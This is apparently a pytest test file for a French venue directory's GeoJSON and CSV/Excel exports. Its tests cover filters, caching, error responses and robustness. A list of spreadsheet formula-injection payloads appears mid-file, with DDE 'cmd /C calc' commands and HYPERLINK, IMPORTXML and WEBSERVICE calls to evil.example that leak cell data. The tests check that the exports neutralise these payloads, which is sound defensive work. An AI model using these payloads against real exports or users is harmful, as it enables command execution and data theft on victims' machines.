import csv
import io
import json

import pytest


@pytest.fixture
def venues(make_venue):
    from members.models import Commune

    lille = Commune.objects.get(insee_code="59350")
    no_position = Commune.objects.filter(latitude__isnull=True).first()
    return [
        make_venue(
            title="Atelier Rond", main_activity="fablab", tags=["impression 3D"], surface_m2=80, capacity=10
        ),
        make_venue(title="Bureau Pile", latitude=50.64, longitude=3.07, commune=lille),
        make_venue(title="Sans Position", commune=no_position),
        make_venue(title="Brouillon", live=False),
    ]


def test_geojson_feature_collection(client, venues, settings):
    response = client.get("/lieux/lieux.geojson")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/geo+json"
    assert 'rel="license"' in response["Link"]
    data = json.loads(response.content)
    assert data["type"] == "FeatureCollection"
    assert data["licence"]["name"].startswith("Licence Ouverte")
    by_name = {f["properties"]["name"]: f for f in data["features"]}
    assert set(by_name) == {"Atelier Rond", "Bureau Pile", "Sans Position"}
    rond = by_name["Atelier Rond"]
    assert rond["geometry"]["type"] == "Point"
    props = rond["properties"]
    assert props["url"] == f"{settings.SITE_URL}/lieux/{venues[0].slug}/"
    assert props["activities"] == ["fablab"]
    assert props["commune"] == "Lille" and props["insee_code"] == "59350"
    assert props["tags"] == ["impression 3D"]
    assert (props["surface_m2"], props["capacity"]) == (80, 10)
    # Falls back to the commune's position; a venue whose commune has none gets a null geometry.
    assert props["position_approximate"] is True
    assert by_name["Bureau Pile"]["geometry"]["coordinates"] == [3.07, 50.64]
    assert by_name["Sans Position"]["geometry"] is None


def test_csv_export(client, venues):
    response = client.get("/lieux/lieux.csv?activity=fablab")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "etalab.gouv.fr/licence-ouverte" in response["Link"]
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [row["name"] for row in rows] == ["Atelier Rond"]
    assert rows[0]["insee_code"] == "59350" and rows[0]["tags"] == "impression 3D"


def test_feeds_honour_filters_and_survive_bad_values(client, venues):
    data = json.loads(client.get("/lieux/lieux.geojson?activity=nope&q=pile").content)
    assert [f["properties"]["name"] for f in data["features"]] == ["Bureau Pile"]
    assert client.get("/lieux/lieux.csv?commune=abc").status_code == 200


def test_geojson_features_carry_the_venue_id(client, venues):
    data = json.loads(client.get("/lieux/lieux.geojson").content)
    by_name = {f["properties"]["name"]: f for f in data["features"]}
    for venue in venues[:3]:  # the draft is not published
        feature = by_name[venue.title]
        assert feature["id"] == venue.pk == feature["properties"]["id"]
    assert by_name["Sans Position"]["geometry"] is None and "id" in by_name["Sans Position"]


def test_excel_format_opens_in_french_excel(client, venues):
    response = client.get("/lieux/lieux.csv?format=excel")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8; header=present"
    assert response["Content-Disposition"] == 'attachment; filename="lieux.csv"'
    assert response.content.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark
    text = response.content.decode("utf-8-sig")
    assert text.startswith("id;name;url;summary;") and "\r\n" in text
    rows = {row["name"]: row for row in csv.DictReader(io.StringIO(text, newline=""), delimiter=";")}
    assert set(rows) == {"Atelier Rond", "Bureau Pile", "Sans Position"}
    # Decimal comma: French Excel reads "3.07" as a date.
    assert (rows["Bureau Pile"]["latitude"], rows["Bureau Pile"]["longitude"]) == ("50,64", "3,07")
    assert rows["Atelier Rond"]["tags"] == "impression 3D" and rows["Atelier Rond"]["surface_m2"] == "80"
    # The plain CSV is unchanged: no BOM, commas, decimal points.
    plain = client.get("/lieux/lieux.csv").content.decode()
    assert plain.startswith("id,name,url,") and ",50.64,3.07," in plain


def test_the_directory_links_to_the_excel_export_with_its_filters(client, venues):
    html = client.get("/lieux/?activity=fablab").content.decode()
    assert 'href="/lieux/lieux.csv?activity=fablab&amp;format=excel"' in html


# Crafted like the 62 summaries of the issue: each way a spreadsheet starts a formula,
# with payloads that run a command, leak cells to a server or fetch a URL.
FORMULA_PAYLOADS = [
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://evil.example/?d="&A2&B2, "Voir le lieu")',
    "1+1",
    "SUM(1+1)*cmd|' /C calc'!A0",
    'IMPORTXML(CONCAT("https://evil.example/?v=", A2), "//a")',
    'WEBSERVICE("https://evil.example/")',
    'DDE("cmd";"/C calc";"!A0")',
    "2+5+cmd|' /C notepad'!A0",
    'IMAGE("https://evil.example/pixel.png")',
    "10; =B1",
]
CRAFTED_SUMMARIES = [
    *(f"{start}{payload}" for start in ("=", "+", "-", "@", "\t", "\r") for payload in FORMULA_PAYLOADS),
    "'=1+1",  # already "protected" by hand: still comes out guarded, and back exactly
    "\r\n=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("query", ["", "?format=excel"])
def test_crafted_summaries_are_all_neutralised(client, make_venue, query):
    assert len(CRAFTED_SUMMARIES) == 62
    for number, summary in enumerate(CRAFTED_SUMMARIES):
        make_venue(title=f"Piège {number:02}", summary=summary)
    make_venue(
        title='=HYPERLINK("https://evil.example")',
        street_address="+cmd|' /C calc'!A0",
        phone="+33 3 20 12 34 56",
        email="-2+3@example.org",
        tags=["@SUM(A1)"],
    )
    response = client.get(f"/lieux/lieux.csv{query}")
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";" if query else ","))
    header, data = rows[0], rows[1:]
    assert len(data) == 63
    for row in data:
        assert len(row) == len(header)
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (header, row)
    summaries = {row[header.index("name")]: row[header.index("summary")] for row in data}
    for number, summary in enumerate(CRAFTED_SUMMARIES):
        assert summaries[f"Piège {number:02}"] == f"'{summary}"
    by_name = {row[header.index("name")]: dict(zip(header, row, strict=True)) for row in data}
    cells = by_name['\'=HYPERLINK("https://evil.example")']
    assert cells["address"] == "'+cmd|' /C calc'!A0"
    assert cells["phone"] == "'+33 3 20 12 34 56"  # still a phone number to the eye
    assert cells["email"] == "'-2+3@example.org" and cells["tags"] == "'@SUM(A1)"


def test_geojson_keeps_the_text_as_it_is(client, make_venue):
    make_venue(title="Brut", summary="=1+1", phone="+33 3 20 12 34 56")
    props = json.loads(client.get("/lieux/lieux.geojson").content)["features"][0]["properties"]
    assert (props["summary"], props["phone"]) == ("=1+1", "+33 3 20 12 34 56")


@pytest.mark.parametrize("url", ["/lieux/lieux.csv", "/lieux/lieux.geojson"])
@pytest.mark.parametrize(
    "query",
    [
        "?commune=abc",
        "?q=%00",
        "?q=%22",
        "?q=" + "a" * 100_000,
        "?tag=%00&activity=%3Cscript%3E",
        "?qpv=peut-etre&accessible=%FF&mentoring=2",
        "?page=-1&unknown=1",
        "?format=",
        "?commune=59350&commune=abc",
    ],
)
def test_exports_survive_any_query_string(client, venues, url, query):
    assert client.get(url + query).status_code == 200


@pytest.mark.parametrize(
    ("url", "query", "choices"),
    [
        ("/lieux/lieux.csv", "?format=xyz", "csv, excel"),
        ("/lieux/lieux.csv", "?format=xlsx&activity=fablab", "csv, excel"),
        ("/lieux/lieux.geojson", "?format=excel", "geojson"),
    ],
)
def test_an_unknown_format_is_a_clear_400(client, venues, url, query, choices):
    response = client.get(url + query)
    assert response.status_code == 400
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    body = response.content.decode()
    assert body.startswith("Format inconnu") and choices in body
    english = client.get("/en" + url + query).content.decode()  # the English address (docs/i18n.md)
    assert english.startswith("Unknown format") and choices in english


def test_a_long_unknown_format_is_not_echoed_whole(client, venues):
    response = client.get("/lieux/lieux.csv?format=" + "x" * 10_000)
    assert response.status_code == 400 and len(response.content) < 300


def test_each_csv_format_is_cached_apart(client, venues, django_assert_num_queries):
    excel = client.get("/lieux/lieux.csv?format=excel")
    assert excel["X-Page-Cache"] == "miss"
    with django_assert_num_queries(0):
        again = client.get("/lieux/lieux.csv?format=excel")
    assert again["X-Page-Cache"] == "hit" and again.content == excel.content
    plain = client.get("/lieux/lieux.csv")
    assert plain["X-Page-Cache"] == "miss" and not plain.content.startswith(b"\xef\xbb\xbf")
    refused = client.get("/lieux/lieux.csv?format=xyz")
    assert refused.status_code == 400 and "X-Page-Cache" not in refused
